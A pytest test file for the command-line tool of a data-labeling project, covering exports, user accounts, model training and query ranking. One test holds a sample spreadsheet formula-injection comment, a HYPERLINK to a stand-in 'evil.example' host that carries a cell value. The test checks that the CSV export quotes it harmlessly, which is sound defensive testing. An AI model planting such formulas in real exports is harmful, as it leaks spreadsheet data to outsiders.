"""The CLI commands that do not start a server: users, export, train and query."""

from __future__ import annotations

import contextlib
import io
import json
from contextlib import contextmanager

import pandas as pd
import pytest

from assisted_labeling import cli
from assisted_labeling.config import build_config
from assisted_labeling.errors import AuthenticationError, LabelingError
from assisted_labeling.export import write_frame
from assisted_labeling.project import LabelingProject, Principal
from assisted_labeling.standalone import open_project
from assisted_labeling.store.sqlite import SQLiteStore
from assisted_labeling.web.auth import LOCAL_USER


def free_port() -> int:
    import socket

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def served(tmp_path, table: str, categories: str, labels=()):
    """The project of ``rows.csv`` (``table``, id column ``id``) in ``labels.db``, with
    the local user's ``(item id, class)`` labels."""
    (tmp_path / "rows.csv").write_text(table)
    project = open_project(tmp_path / "rows.csv", tmp_path / "labels.db",
                           {"categories": categories, "id_column": "id"}, progress=False)
    for item, label in labels:
        project.annotate(LOCAL_USER, {"item_id": item, "label": label})
    return project


@pytest.fixture
def labeled_store(tmp_path):
    project = served(tmp_path, "id,text,score\n1,good,0.5\n2,bad,\n3,\"a, b\",2\n",
                     "pos,neg")
    db = project.store.path
    project.annotate(LOCAL_USER, {"item_id": "1", "label": "pos", "comment": "sure"})
    project.skip(LOCAL_USER, {"item_id": "2"})
    project.annotate(LOCAL_USER, {"item_id": "3", "label": "neg"})
    project.annotate(LOCAL_USER, {"item_id": "1", "label": "neg"})
    project.store.close()
    return db


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_export_labels(labeled_store, tmp_path, fmt):
    out = tmp_path / f"labels.{fmt}"
    assert cli.main(["export", "--store", str(labeled_store), "--table", "labels",
                     "--format", fmt, "-o", str(out)]) == 0
    frame = {"csv": pd.read_csv, "parquet": pd.read_parquet,
             "jsonl": lambda p: pd.read_json(p, lines=True)}[fmt](out)
    assert list(frame.columns) == ["id", "text", "score", "label", "label_id"]
    # A CSV id column is read as text: Parquet keeps it so (CSV and JSONL readers guess).
    frame["id"] = frame["id"].astype(str)
    assert frame[["id", "label", "label_id"]].values.tolist() == [["1", "neg", 1],
                                                                  ["3", "neg", 2]]


@pytest.mark.parametrize("skip", [False, True])
def test_a_store_without_labels_exports_an_empty_table_with_its_columns(tmp_path, skip):
    project = served(tmp_path, "id,text\n1,good\n2,bad\n", "pos,neg")
    if skip:
        project.skip(LOCAL_USER, {"item_id": "1"})
    db = project.store.path
    project.store.close()
    for fmt, read in (("csv", pd.read_csv), ("parquet", pd.read_parquet)):
        out = tmp_path / f"labels.{fmt}"
        assert cli.main(["export", "--store", str(db), "-o", str(out)]) == 0
        frame = read(out)
        assert list(frame.columns) == ["id", "text", "label", "label_id"] and frame.empty


def test_export_refuses_a_format_its_file_extension_contradicts(labeled_store, tmp_path,
                                                                 capsys):
    """Parquet bytes in a .csv file would fail every reader, which goes by extension."""
    out = tmp_path / "labels.csv"
    assert cli.main(["export", "--store", str(labeled_store), "--format", "parquet",
                     "-o", str(out)]) == 2
    assert f'Cannot write parquet to "{out}", whose extension says csv' in \
        one_line_error(capsys)
    assert not out.exists()
    other = tmp_path / "labels.tsv"  # an extension of no table format: the option decides
    assert cli.main(["export", "--store", str(labeled_store), "--format", "jsonl",
                     "-o", str(other)]) == 0
    assert len(other.read_text().splitlines()) == 2


def test_a_csv_pool_exports_as_written_and_typed_for_typed_formats(tmp_path):
    # The labels export of a CSV pool gave "01234" as 1234, "3" as 3.0 and lost "NA".
    project = served(tmp_path, 'id,zip,n,name\n1,01234,3,NA\n2,02345,,"a, ""b"""\n'
                     "3,10001,4,x\n", "01,1", [("1", "01"), ("2", "1")])
    db = project.store.path
    project.store.close()
    out = tmp_path / "labels.csv"
    assert cli.main(["export", "--store", str(db), "-o", str(out)]) == 0
    assert out.read_text().splitlines() == [
        "id,zip,n,name,label,label_id", "1,01234,3,NA,01,1", '2,02345,,"a, ""b""",1,2']
    # Parquet and JSONL have types: the item columns as `train` types the pool.
    for fmt in ("parquet", "jsonl"):
        typed_out = tmp_path / f"labels.{fmt}"
        assert cli.main(["export", "--store", str(db), "-o", str(typed_out)]) == 0
        frame = (pd.read_parquet(typed_out) if fmt == "parquet"
                 else pd.read_json(typed_out, lines=True, dtype=False))
        assert frame["id"].tolist() == ["1", "2"] and frame["label"].tolist() == ["01", "1"]
        assert frame["zip"].tolist() == [1234, 2345]
        assert frame["n"].tolist()[0] == 3.0 and pd.isna(frame["n"].tolist()[1])
        assert frame["name"].tolist() == ["NA", 'a, "b"']  # text as written


def test_export_refuses_a_label_column_the_items_already_have(labeled_store, tmp_path,
                                                              capsys):
    out = tmp_path / "labels.csv"
    assert cli.main(["export", "--store", str(labeled_store), "--label-column", "score",
                     "-o", str(out)]) == 2
    assert 'The items have a column "score", which the labels export writes' in \
        one_line_error(capsys)
    assert not out.exists()


def test_export_metadata(labeled_store, tmp_path):
    out = tmp_path / "meta.csv"
    assert cli.main(["export", "--store", str(labeled_store), "--table", "metadata",
                     "-o", str(out)]) == 0
    frame = pd.read_csv(out, dtype={"data_id": str})
    assert list(frame.columns) == ["date", "data_id", "comment", "session", "status",
                                   "annotator", "label", "label_id"]
    assert frame["status"].tolist() == ["LABELED", "SKIPPED", "LABELED"]
    assert frame["data_id"].tolist() == ["1", "2", "3"]
    assert frame["annotator"].unique().tolist() == ["local"]


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_comments_that_a_spreadsheet_would_run_are_quoted_in_csv_only(tmp_path, fmt):
    """An annotator's comment "=HYPERLINK(…)" would be a live formula for whoever opens
    the CSV export in a spreadsheet; typed formats keep it as written."""
    project = served(tmp_path, "id,text\n1,a\n2,=1+1\n3,c\n4,d\n5,e\n", "pos,neg")
    comments = ['=HYPERLINK("http://evil.example/?"&A1,"see")', "+1", "@me", "- blurry",
                "fine"]
    for item, comment in zip("1234", comments):
        project.annotate(LOCAL_USER, {"item_id": item, "label": "pos", "comment": comment})
    project.skip(LOCAL_USER, {"item_id": "5", "comment": comments[-1]})
    db = project.store.path
    project.store.close()
    out = tmp_path / f"meta.{fmt}"
    assert cli.main(["export", "--store", str(db), "--table", "metadata",
                     "-o", str(out)]) == 0
    if fmt == "csv":
        written = pd.read_csv(out, dtype=str, keep_default_na=False)["comment"].tolist()
        assert written == ["'" + c for c in comments[:4]] + ["fine"]
    else:
        rows = [json.loads(line) for line in out.read_text("utf-8").splitlines()]
        assert [r["comment"] for r in rows] == comments
    # The items are the data scientist's own: their cells are written as they are.
    labels = tmp_path / "labels.csv"
    assert cli.main(["export", "--store", str(db), "-o", str(labels)]) == 0
    assert "\n2,=1+1,pos," in labels.read_text("utf-8")


def test_a_jsonl_pool_mixing_numbers_and_text_exports_to_parquet_as_text(tmp_path, capsys):
    """{"zip": 75001} in a row, {"zip": "2A004"} in another: Parquet holds one type per
    column, so the column is written as text, as `query` writes it."""
    pool = tmp_path / "mixed.jsonl"
    pool.write_text('{"text":"a","zip":75001}\n{"text":"b","zip":"2A004"}\n'
                    '{"text":"c","zip":null}\n')
    project = open_project(pool, tmp_path / "labels.db", {"categories": "neg,pos"},
                           progress=False)
    for item in project.next_items(LOCAL_USER, 3):
        project.annotate(LOCAL_USER, {"item_id": item["id"], "label": "pos"})
    project.store.close()
    out = tmp_path / "labels.parquet"
    assert cli.main(["export", "--store", str(tmp_path / "labels.db"), "-o", str(out)]) == 0
    frame = pd.read_parquet(out)
    assert sorted(frame["zip"].dropna()) == ["2A004", "75001"]
    assert frame["zip"].isna().sum() == 1


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_metadata_label_ids_stay_whole_numbers_beside_a_skip(labeled_store, tmp_path, fmt):
    out = tmp_path / f"meta.{fmt}"
    assert cli.main(["export", "--store", str(labeled_store), "--table", "metadata",
                     "-o", str(out)]) == 0
    if fmt == "csv":
        lines = out.read_text("utf-8").splitlines()[1:]
        assert [line.rsplit(",", 1)[1] for line in lines] == ["1", "", "2"]
    elif fmt == "jsonl":
        rows = [json.loads(line) for line in out.read_text("utf-8").splitlines()]
        assert [(r["label_id"], r["session"]) for r in rows] == [(1, 0), (None, 0), (2, 0)]
        assert type(rows[0]["label_id"]) is int
    else:
        frame = pd.read_parquet(out)
        assert str(frame["label_id"].dtype) == "Int64"
        assert frame["label_id"].tolist()[::2] == [1, 2] and frame["label_id"].isna()[1]


def test_export_of_an_unknown_store_fails_clearly(tmp_path, capsys):
    assert cli.main(["export", "--store", str(tmp_path / "none.db"), "-o",
                     str(tmp_path / "x.csv")]) == 2
    assert "No store" in capsys.readouterr().err
    assert not (tmp_path / "x.csv").exists()


def test_users_add_prints_the_token_last(tmp_path, monkeypatch, capsys):
    db = tmp_path / "labels.db"
    monkeypatch.setattr("sys.stdin", io.StringIO("a-long-password\n"))
    assert cli.main(["users", "add", "ann", "--role", "reviewer", "--store", str(db),
                     "--password-stdin"]) == 0
    token = capsys.readouterr().out.strip().splitlines()[-1]
    assert SQLiteStore(db).user_for_token(token).role == "reviewer"
    monkeypatch.setattr("sys.stdin", io.StringIO("a-long-password\n"))
    assert cli.main(["users", "add", "ann", "--store", str(db), "--password-stdin"]) == 2
    assert "exists already" in capsys.readouterr().err


def test_users_add_without_a_terminal_or_password_stdin_is_one_line(tmp_path, monkeypatch,
                                                                      capsys):
    import io

    def not_called(prompt: str = "") -> str:
        pytest.fail("getpass warns, then reads a line it cannot hide")

    monkeypatch.setattr("getpass.getpass", not_called)
    monkeypatch.setattr("sys.stdin", io.StringIO("a-long-pass-phrase\n"))  # not a TTY
    assert cli.main(["users", "add", "ann", "--store", str(tmp_path / "l.db")]) == 2
    assert "--password-stdin" in one_line_error(capsys)
    assert not list(tmp_path.glob("l.db*"))  # a refusal leaves no new store


def test_users_add_at_a_terminal_that_closes_is_one_line(tmp_path, monkeypatch, capsys):
    import io

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    def closed(prompt: str = "") -> str:
        raise EOFError  # Ctrl-D at the prompt

    monkeypatch.setattr("getpass.getpass", closed)
    monkeypatch.setattr("sys.stdin", Terminal())
    assert cli.main(["users", "add", "ann", "--store", str(tmp_path / "l.db")]) == 2
    assert "No password given" in one_line_error(capsys)


def test_adding_the_name_of_labeling_without_accounts_says_so(labeled_store, monkeypatch,
                                                              capsys):
    monkeypatch.setattr("sys.stdin", io.StringIO("a-long-password\n"))
    assert cli.main(["users", "add", "local", "--store", str(labeled_store),
                     "--password-stdin"]) == 2
    assert ('3 annotations carry the name "local", from labeling without accounts'
            in one_line_error(capsys))


def test_users_list(tmp_path, capsys):
    db = tmp_path / "labels.db"
    SQLiteStore(db).add_user("bob", "manager", "a-long-password")
    assert cli.main(["users", "list", "--store", str(db)]) == 0
    assert capsys.readouterr().out.splitlines() == ["bob\tmanager"]


def test_users_list_of_a_store_without_accounts_says_so(tmp_path, capsys):
    db = tmp_path / "labels.db"
    SQLiteStore(db).close()
    assert cli.main(["users", "list", "--store", str(db)]) == 0
    captured = capsys.readouterr()
    assert captured.out == ""  # the list itself, for scripts: empty
    assert "No accounts in this store" in captured.err


def test_export_to_a_place_it_cannot_write_names_the_output(labeled_store, capsys):
    # /proc refuses new files even to root: the temporary file's name must not show.
    assert cli.main(["export", "--store", str(labeled_store), "-o", "/proc/labels.csv"]) == 2
    message = one_line_error(capsys)
    assert 'Cannot use "/proc/labels.csv"' in message
    assert ".partial" not in message


def test_export_refuses_an_empty_label_column_name(labeled_store, tmp_path, capsys):
    out = tmp_path / "labels.csv"
    assert cli.main(["export", "--store", str(labeled_store), "--label-column", "",
                     "-o", str(out)]) == 2
    assert "--label-column needs a name" in one_line_error(capsys)
    assert not out.exists()


def test_a_csv_row_with_too_many_cells_is_told_plainly(tmp_path, capsys):
    rows = tmp_path / "rows.csv"
    rows.write_text("text,n\nfine,1\nsplit, here,2\n")
    assert cli.main(["serve", str(rows), "--categories", "a,b", "--store",
                     str(tmp_path / "labels.db")]) == 2
    message = one_line_error(capsys)
    assert "C error" not in message and "tokenizing" not in message
    assert "line 3 has 3 cells, the header 2" in message


@pytest.mark.parametrize("host, shown", [
    ("127.0.0.1", "Open http://127.0.0.1:8080/"), ("::1", "Open http://[::1]:8080/"),
    ("0.0.0.0", "from other machines (listening on every address), "
                "http://127.0.0.1:8080/ from this one")])
def test_the_address_to_open_is_one_a_browser_can_open(host, shown):
    assert shown in cli._where_to_open(host, 8080)
    assert "0.0.0.0" not in cli._where_to_open(host, 8080)


def test_every_option_of_the_tool_is_explained(capsys):
    with pytest.raises(SystemExit):
        cli.main(["--help"])
    assert "more messages" in capsys.readouterr().out


def test_users_set_role_and_delete(tmp_path, capsys):
    db = tmp_path / "labels.db"
    store = SQLiteStore(db)
    token = store.add_user("bob", "annotator", "a-long-password")
    assert cli.main(["users", "set-role", "bob", "--role", "reviewer",
                     "--store", str(db)]) == 0
    assert SQLiteStore(db).user_for_token(token).role == "reviewer"
    assert cli.main(["users", "set-role", "bob", "--store", str(db)]) == 2
    assert "needs --role" in capsys.readouterr().err
    assert cli.main(["users", "delete", "bob", "--store", str(db)]) == 0
    assert cli.main(["users", "list", "--store", str(db)]) == 0
    assert capsys.readouterr().out == ""
    assert cli.main(["users", "delete", "bob", "--store", str(db)]) == 2
    assert 'No user named "bob"' in capsys.readouterr().err
    assert cli.main(["users", "delete", "--store", str(db)]) == 2
    assert "needs a user name" in capsys.readouterr().err
    assert cli.main(["users", "list", "--store", str(tmp_path / "none.db")]) == 2
    assert not (tmp_path / "none.db").exists()


def test_a_deleted_accounts_name_is_not_given_to_someone_else_unasked(labeled_store,
                                                                      monkeypatch, capsys):
    # Annotations are kept by name: a new "ann" would see and edit the old ann's labels.
    store = SQLiteStore(labeled_store)
    store.add_user("ann", "annotator", "first-password")
    project = LabelingProject(build_config({"categories": "pos,neg"}), store)
    project.annotate(Principal("ann", "annotator"), {"item_id": "2", "label": "pos"})
    store.delete_user("ann")
    monkeypatch.setattr("sys.stdin", io.StringIO("another-password\n"))
    args = ["users", "add", "ann", "--store", str(labeled_store), "--password-stdin"]
    assert cli.main(args) == 2
    assert '1 annotation carries the name "ann", from a deleted account' in \
        one_line_error(capsys)
    assert cli.main([*args, "--same-person"]) == 0
    assert store.get_user("ann").role == "annotator"


def test_users_reset_gives_a_new_password_and_token(tmp_path, monkeypatch, capsys):
    db = tmp_path / "labels.db"
    store = SQLiteStore(db)
    old = store.add_user("bob", "annotator", "a-long-password")
    monkeypatch.setattr("sys.stdin", io.StringIO("a-new-password\n"))
    assert cli.main(["users", "reset", "bob", "--store", str(db), "--password-stdin"]) == 0
    new = capsys.readouterr().out.strip()
    assert store.user_for_token(new).name == "bob"
    assert store.authenticate("bob", "a-new-password").name == "bob"
    with pytest.raises(AuthenticationError):
        store.user_for_token(old)
    with pytest.raises(AuthenticationError):
        store.authenticate("bob", "a-long-password")


def test_stored_settings_follow_the_last_serve(labeled_store):
    assert json.loads(SQLiteStore(labeled_store).get_meta("config"))["categories"] == [
        "pos", "neg"]


# -- train and query: checks before work, one-line errors, progress, sessions ----------
@pytest.fixture
def model_files(tmp_path):
    """A model trained on numbers x, y and a pool of 30 rows with the same columns."""
    pd.DataFrame({"x": [0.1, 0.9, 0.2, 0.8, 0.3, 0.7], "y": [0.9, 0.1, 0.8, 0.2, 0.7, 0.3],
                  "label": ["b", "a", "b", "a", "b", "a"]}).to_csv(tmp_path / "train.csv",
                                                                   index=False)
    model = tmp_path / "m.skops"
    assert cli.main(["train", str(tmp_path / "train.csv"), "-o", str(model)]) == 0
    pool = tmp_path / "pool.csv"
    pd.DataFrame({"id": range(30), "x": [i / 30 for i in range(30)],
                  "y": [1 - i / 30 for i in range(30)]}).to_csv(pool, index=False)
    return model, pool


def one_line_error(capsys) -> str:
    err = capsys.readouterr().err
    lines = [line for line in err.splitlines() if line.startswith("error: ")]
    assert len(lines) == 1 and "Traceback" not in err, err
    return lines[0]


@pytest.mark.parametrize("output, words", [("q.xlsx", "expected a file ending in"),
                                           ("missing/q.csv", "does not exist"),
                                           ("folder.csv", "is a directory")])
def test_query_checks_its_output_before_scoring(model_files, tmp_path, monkeypatch, capsys,
                                                output, words):
    model, pool = model_files

    def no_scoring(*args, **kwargs):
        raise AssertionError("the pool was scored")

    monkeypatch.setattr("assisted_labeling.queries.score_file", no_scoring)
    (tmp_path / "folder.csv").mkdir()
    capsys.readouterr()
    assert cli.main(["query", "--model", str(model), "--input", str(pool), "-o",
                     str(tmp_path / output)]) == 2
    assert words in one_line_error(capsys)


@pytest.mark.parametrize("output, words", [("m.bin", "ending in .skops"),
                                           ("missing/m.skops", "does not exist")])
def test_train_checks_its_output_before_reading(model_files, tmp_path, monkeypatch, capsys,
                                                output, words):
    def no_fit(*args, **kwargs):
        raise AssertionError("a model was fitted")

    monkeypatch.setattr("assisted_labeling.models.train", no_fit)
    capsys.readouterr()
    assert cli.main(["train", str(tmp_path / "train.csv"), "-o", str(tmp_path / output)]) == 2
    assert words in one_line_error(capsys)
    assert not (tmp_path / output).exists()


def test_export_checks_its_output_before_reading_the_store(labeled_store, tmp_path, capsys):
    assert cli.main(["export", "--store", str(labeled_store), "-o",
                     str(tmp_path / "missing" / "labels.csv")]) == 2
    assert "does not exist" in one_line_error(capsys)


def test_a_pool_of_the_wrong_types_is_a_one_line_error(model_files, tmp_path, capsys):
    model, _ = model_files
    pool = tmp_path / "text.csv"
    pd.DataFrame({"x": ["abc", "def"], "y": [1, 2]}).to_csv(pool, index=False)
    capsys.readouterr()
    args = ["query", "--model", str(model), "--input", str(pool), "-o",
            str(tmp_path / "q.csv")]
    assert cli.main(args) == 2
    message = one_line_error(capsys)
    # The column at fault is named, with what it holds.
    assert "text.csv" in message and 'column "x" holds text' in message
    assert "2 of the 2 rows checked, such as 'abc'" in message
    assert "y" not in message.split("column")[1]
    assert not (tmp_path / "q.csv").exists()
    assert cli.main([*args, "--debug"]) == 2
    assert "Traceback" in capsys.readouterr().err


def test_training_on_mixed_types_is_a_one_line_error(tmp_path, capsys):
    data = tmp_path / "mixed.jsonl"
    data.write_text("".join(f'{{"x": {i / 10}, "size": {size}, "label": "{label}"}}\n'
                            for i, (size, label) in enumerate(
                                [(1, "a"), ('"M"', "b"), (2, "a"), ('"L"', "b")])))
    assert cli.main(["train", str(data), "-o", str(tmp_path / "m.skops")]) == 2
    message = one_line_error(capsys)
    # The column at fault is named, with two of its values.
    assert 'Cannot train on "' in message
    assert 'column "size" mixes numbers and text (such as 1 and \'M\')' in message


def test_a_bug_keeps_its_traceback(model_files, tmp_path, monkeypatch):
    model, pool = model_files

    def bug(*args, **kwargs):
        raise KeyError("a bug")

    monkeypatch.setattr("assisted_labeling.queries.score_file", bug)
    with pytest.raises(KeyError):
        cli.main(["query", "--model", str(model), "--input", str(pool), "-o",
                  str(tmp_path / "q.csv")])


def test_a_missing_file_is_a_one_line_error(tmp_path, capsys):
    assert cli.main(["serve", str(tmp_path / "pool.csv"), "--categories", "a,b",
                     "--instructions", str(tmp_path / "none.md")]) == 2
    assert "none.md" in one_line_error(capsys)


def test_query_refuses_a_queries_file_as_pool(model_files, tmp_path, monkeypatch, capsys):
    model, pool = model_files
    queries = tmp_path / "q.csv"
    assert cli.main(["query", "--model", str(model), "--input", str(pool), "-o",
                     str(queries)]) == 0
    before = queries.read_bytes()
    capsys.readouterr()
    assert cli.main(["query", "--model", str(model), "--input", str(queries), "-o",
                     str(tmp_path / "q2.csv")]) == 2
    message = one_line_error(capsys)
    assert "uncertainty, model_uncertainty, session" in message and "original pool" in message
    assert not (tmp_path / "q2.csv").exists()
    # Writing over the pool itself is refused too, before it is scored.
    assert cli.main(["query", "--model", str(model), "--input", str(pool), "-o",
                     str(pool)]) == 2
    assert "is the pool itself" in one_line_error(capsys)
    assert queries.read_bytes() == before and "uncertainty" not in pool.read_text()


def test_query_refuses_a_pool_without_the_model_columns(model_files, tmp_path, capsys):
    model, _ = model_files
    pool = tmp_path / "other.csv"
    pd.DataFrame({"x": [1.0], "z": [2.0]}).to_csv(pool, index=False)
    capsys.readouterr()
    assert cli.main(["query", "--model", str(model), "--input", str(pool), "-o",
                     str(tmp_path / "q.csv")]) == 2
    assert "lacks the model's column(s) y" in one_line_error(capsys)


@pytest.fixture
def bars(monkeypatch):
    """(label, total, rows counted) of each progress bar the CLI closes; the bars count
    even though the tests' stderr is not a terminal."""
    from tqdm import tqdm

    monkeypatch.setattr("assisted_labeling.queries.progress_bar",
                        lambda label, total=None: tqdm(desc=label, total=total,
                                                       file=io.StringIO()))
    seen = []
    real = cli._progress

    @contextmanager
    def spy(label, total):
        with real(label, total) as bar:
            yield bar
        seen.append((label.split()[0], bar.total, bar.n))

    monkeypatch.setattr(cli, "_progress", spy)
    return seen


def test_query_progress_has_a_total(model_files, tmp_path, bars):
    model, pool = model_files
    parquet = tmp_path / "pool.parquet"
    pd.read_csv(pool).to_parquet(parquet, index=False)
    for source in (pool, parquet):
        assert cli.main(["query", "--model", str(model), "--input", str(source), "-o",
                         str(tmp_path / "q.csv")]) == 0
    assert bars == [("Scoring", 30, 30), ("Scoring", 30, 30)]


def test_train_shows_reading_and_fitting(model_files, tmp_path, bars, capsys):
    assert cli.main(["train", str(tmp_path / "train.csv"), "-o",
                     str(tmp_path / "m2.skops")]) == 0
    assert bars == [("Reading", 6, 6)]
    assert "Fitting a linear model" in capsys.readouterr().err


def test_row_counts(tmp_path, monkeypatch, bars):
    csv = tmp_path / "t.csv"
    csv.write_text('a,b\n1,"two\nlines"\n3,4')  # no final newline; a quoted line break
    assert cli._row_count(csv) == 3  # an estimate: the bar is corrected when done
    jsonl = tmp_path / "t.jsonl"
    jsonl.write_text('{"a": 1}\n{"a": 2}\n')
    assert cli._row_count(jsonl) == 2
    parquet = tmp_path / "t.parquet"
    pd.DataFrame({"a": range(7)}).to_parquet(parquet)
    assert cli._row_count(parquet) == 7
    assert cli._row_count(tmp_path / "none.csv") is None
    monkeypatch.setattr(cli, "LINE_COUNT_LIMIT", 10)
    assert cli._row_count(csv) is None and cli._row_count(parquet) == 7
    with cli._progress("Reading", 3) as bar:  # an estimate too high: ends at 100 %
        bar.update(2)
    assert bars == [("Reading", 2, 2)]


def test_query_leaves_out_rows_labeled_in_the_pool_and_counts_sessions(
        model_files, tmp_path, capsys):
    """The pool `train` learned from holds labels: those rows are left out. With every
    row labeled, the queries table is empty and no session starts (no label can follow
    it); an empty pool is an error that writes nothing."""
    model, pool = model_files
    out = tmp_path / "q.parquet"
    frame = pd.read_csv(pool)
    some = tmp_path / "some.csv"
    frame.assign(label=["a" if i < 10 else "" for i in range(30)]).to_csv(some, index=False)
    assert cli.main(["query", "--model", str(model), "--input", str(some), "-o", str(out)]) == 0
    queries = pd.read_parquet(out)
    assert len(queries) == 20 and set(queries["id"]) == set(range(10, 30))
    assert set(queries["session"]) == {1}
    assert "Left out 10 of 30 rows, labeled in its column \"label\"" in capsys.readouterr().err
    every = tmp_path / "every.csv"
    frame.assign(label="a").to_csv(every, index=False)
    assert cli.main(["query", "--model", str(model), "--input", str(every), "-o", str(out)]) == 0
    assert len(pd.read_parquet(out)) == 0
    assert "Every row of the pool is labeled" in capsys.readouterr().err
    base = ["query", "--model", str(model), "--input", str(pool), "-o", str(out)]
    assert cli.main([*base, "--max-queries", "5"]) == 0
    assert set(pd.read_parquet(out)["session"]) == {2}  # the empty run counted none
    empty = tmp_path / "empty.csv"
    frame.head(0).to_csv(empty, index=False)
    assert cli.main(["query", "--model", str(model), "--input", str(empty),
                     "-o", str(out)]) == 2
    assert "has no rows" in one_line_error(capsys)
    assert set(pd.read_parquet(out)["session"]) == {2}  # untouched
    out.unlink()  # a new output file: a new count
    assert cli.main([*base, "--max-queries", "5"]) == 0
    assert set(pd.read_parquet(out)["session"]) == {1}
    assert cli.main([*base, "--label-column", "lbl"]) == 2
    assert 'No column "lbl" in the pool' in one_line_error(capsys)
    # Read as `train` reads it: "NA" and "None" are classes, an empty cell is no label.
    classes = tmp_path / "na.csv"
    frame.assign(label=["NA", "None", ""] + [""] * 27).to_csv(classes, index=False)
    assert cli.main(["query", "--model", str(model), "--input", str(classes), "-o",
                     str(out)]) == 0
    assert len(pd.read_parquet(out)) == 28
    # With a store, the store says which items are labeled: a "label" column of the pool
    # (pre-annotations, say) leaves nothing out, and naming one is refused.
    db = tmp_path / "s.db"
    project = open_project(pool, db, {"categories": "a,b", "id_column": "id"},
                           progress=False)
    project.store.close()
    assert cli.main(["query", "--model", str(model), "--input", str(some), "-o",
                     str(out), "--store", str(db)]) == 0
    assert len(pd.read_parquet(out)) == 30
    assert cli.main(["query", "--model", str(model), "--input", str(some), "-o",
                     str(out), "--store", str(db), "--label-column", "label"]) == 2
    assert "--store tells which items are labeled" in one_line_error(capsys)


@pytest.fixture
def two_class_export(tmp_path):
    """A labels export of 4 labeled rows of 2 classes, and the pool it came from."""
    project = served(tmp_path, "id,text,score\n1,good,0.5\n2,bad,0.1\n3,fine,0.7\n"
                     "4,poor,0.2\n5,okay,0.6\n", "pos,neg",
                     [("1", "pos"), ("2", "neg"), ("3", "pos"), ("4", "neg")])
    pool, db = tmp_path / "rows.csv", project.store.path
    project.store.close()
    export = tmp_path / "labels.csv"
    assert cli.main(["export", "--store", str(db), "-o", str(export)]) == 0
    return export, pool


def test_train_on_a_labels_export_then_query_the_pool(two_class_export, tmp_path, capsys):
    export, pool = two_class_export
    model = tmp_path / "m.skops"
    assert cli.main(["train", str(export), "--id-column", "id", "--feature-columns",
                     "score", "-o", str(model)]) == 0
    err = capsys.readouterr().err
    assert "Trained on 4 labeled rows" in err
    assert "Features: score (number); not read: id, text, label_id" in err
    out = tmp_path / "q.csv"
    assert cli.main(["query", "--model", str(model), "--input", str(pool), "-o",
                     str(out)]) == 0
    assert len(pd.read_csv(out)) == 5


def test_train_leaves_the_id_and_bookkeeping_columns_out_by_default(two_class_export,
                                                                     tmp_path, capsys):
    export, pool = two_class_export
    model = tmp_path / "m.skops"
    assert cli.main(["train", str(export), "--id-column", "id", "-o", str(model)]) == 0
    assert "not read: id, label_id" in capsys.readouterr().err
    assert cli.main(["query", "--model", str(model), "--input", str(pool), "-o",
                     str(tmp_path / "q.csv")]) == 0


# -- queries tables read back by serve: exact values, every item matched --------------
@pytest.fixture
def float_pool(tmp_path):
    """A pool of 400 rows of full-precision floats (no id column) and a model for it."""
    import numpy as np

    rng = np.random.default_rng(7)
    frame = pd.DataFrame(rng.normal(size=(400, 4)), columns=["a", "b", "c", "d"])
    pool = tmp_path / "pool.csv"
    frame.to_csv(pool, index=False)  # shortest round-trip digits, as pandas writes them
    train = frame.head(40).assign(label=np.where(frame["a"].head(40) > 0, "p", "n"))
    train.to_csv(tmp_path / "train.csv", index=False)
    model = tmp_path / "m.skops"
    assert cli.main(["train", str(tmp_path / "train.csv"), "-o", str(model)]) == 0
    return frame, pool, model


@pytest.mark.parametrize("pool_format", ["csv", "parquet"])
@pytest.mark.parametrize("queries_format", ["csv", "jsonl", "parquet"])
def test_queries_keep_the_pools_values_and_rank_every_item(float_pool, tmp_path, capsys,
                                                           pool_format, queries_format):
    from assisted_labeling.sources import read_table

    frame, pool, model = float_pool
    if pool_format == "parquet":
        pool = tmp_path / "pool.parquet"
        frame.to_parquet(pool, index=False)
    queries = tmp_path / f"q.{queries_format}"
    assert cli.main(["query", "--model", str(model), "--input", str(pool), "-o",
                     str(queries)]) == 0
    back = read_table(queries)
    for column in frame.columns:  # the very same doubles, not neighbours of them
        assert sorted(back[column].tolist()) == sorted(frame[column].tolist())
    project = open_project(pool, tmp_path / "labels.db", {"categories": "p,n"},
                           progress=False)
    capsys.readouterr()
    cli._order_queue(project, str(queries), str(pool))
    err = capsys.readouterr().err
    assert "400 items scored" in err and "Warning" not in err
    assert project.store.get_meta("session") == "1"  # the labels to come: session 1
    empty = tmp_path / f"empty.{queries_format}"
    write_frame(back.head(0), empty)
    cli._order_queue(project, str(empty), str(pool))
    assert f'Warning: "{empty}" holds no queries' in capsys.readouterr().err


def test_queries_of_another_pool_are_refused_and_stale_rows_reported(float_pool, tmp_path,
                                                                     capsys):
    from assisted_labeling.errors import LabelingError

    frame, pool, model = float_pool
    queries = queries_of(pool, model, tmp_path / "q.csv")
    other = tmp_path / "other.csv"
    (frame + 1).to_csv(other, index=False)
    project = open_project(other, tmp_path / "other.db", {"categories": "p,n"},
                           progress=False)
    other_queries = tmp_path / "other_q.csv"
    assert cli.main(["query", "--model", str(model), "--input", str(other), "-o",
                     str(other_queries)]) == 0
    cli._order_queue(project, str(other_queries), str(other))
    with pytest.raises(LabelingError, match="another table"):
        cli._order_queue(project, str(queries), str(other))
    assert project.store.stats().total == 400
    ranked = project.store.next_items("u", count=1)[0]  # the refusal kept the ranking
    assert ranked.uncertainty is not None
    changed = frame.copy()
    changed.loc[:2, "a"] = 99.0  # 3 rows edited after the queries were made
    edited = tmp_path / "edited.csv"
    changed.to_csv(edited, index=False)
    project = open_project(edited, tmp_path / "edited.db", {"categories": "p,n"},
                           progress=False)
    capsys.readouterr()
    cli._order_queue(project, str(queries), str(edited))
    err = capsys.readouterr().err
    assert 'Warning: 3 rows of "' in err and "397 items scored" in err


def test_a_store_keeps_the_reader_its_ids_were_made_with(tmp_path):
    from assisted_labeling.standalone import FLOATS_META, READER_META, store_reader

    new = SQLiteStore(tmp_path / "new.db")
    assert store_reader(new) == "typed" and new.get_meta(READER_META) == "typed"
    older = SQLiteStore(tmp_path / "older.db")
    older.set_meta("input_fingerprint", "[]")  # items read before the setting existed
    assert store_reader(older) == "pandas" and older.get_meta(READER_META) == "pandas"
    older.set_meta("input_fingerprint", "[1]")  # a new version of the pool: still pandas
    assert store_reader(older) == "pandas"
    exact = SQLiteStore(tmp_path / "exact.db")
    exact.set_meta("input_fingerprint", "[]")
